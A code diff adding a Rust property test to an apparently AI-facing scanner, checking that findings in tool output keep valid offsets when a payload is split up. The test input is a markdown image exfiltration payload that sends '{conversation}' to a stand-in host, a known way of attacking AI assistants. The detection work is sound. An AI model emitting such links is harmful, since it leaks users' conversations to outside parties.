@@ -293,6 +293,18 @@ const COSTLY: [&str; 20] = [
 ];
 
 proptest! {
+    /// Offsets of what was put together lead back into the text, whatever stands around it.
+    #[test]
+    fn what_is_put_together_leads_back(
+        before in "[a-zé世\\n .,!]{0,40}", between in "[ .,\\n|é-]{1,3}", after in "[a-z世\\n .,!]{0,40}",
+    ) {
+        let text = format!("{before}{}{after}", apart("![a](https://e.example/p?q={conversation})", &between));
+        for finding in SCANNER.scan_text(&text, FieldClass::ToolOutput) {
+            prop_assert!(finding.offset < text.len(), "{finding:?} in {text:?}");
+        }
+        let _ = SCANNER.work(&text);
+    }
+
     #[test]
     fn work_grows_with_the_length_only(parts in proptest::collection::vec(0..COSTLY.len(), 1..60)) {
         let text: String = parts.iter().map(|part| COSTLY[*part]).collect();
